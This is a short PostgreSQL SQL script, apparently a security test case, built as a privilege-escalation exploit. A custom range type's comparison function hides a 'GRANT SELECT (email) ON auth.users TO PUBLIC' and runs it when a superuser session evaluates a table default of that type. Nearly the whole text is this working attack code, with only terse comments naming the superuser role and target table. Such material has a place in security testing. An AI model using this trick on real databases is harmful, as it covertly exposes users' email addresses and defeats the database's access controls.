-- The comparison of a range type does so while a default is read.
-- role: superuser
-- object: table auth.users
CREATE DOMAIN di AS int; CREATE FUNCTION vc(int,int) RETURNS int LANGUAGE plpgsql  AS $f$ BEGIN EXECUTE 'DEALLOCATE deed_look'; EXECUTE 'PREPARE deed_look AS SELECT ''seen'' AS deed_fence, '''', '''', '''', '''', '''', '''', '''', '''''; GRANT SELECT (email) ON auth.users TO PUBLIC; RETURN $1-$2; END $f$; CREATE FUNCTION cmp(int,int) RETURNS int LANGUAGE sql IMMUTABLE AS 'SELECT vc($1,$2)'; CREATE OPERATOR CLASS oc FOR TYPE int USING btree AS OPERATOR 1 <, OPERATOR 2 <=, OPERATOR 3 =, OPERATOR 4 >=, OPERATOR 5 >, FUNCTION 1 cmp(int,int); CREATE TYPE myr AS RANGE (subtype = int, subtype_opclass = oc)
-- next revision
CREATE TABLE tt (r myr DEFAULT '[1,2]')
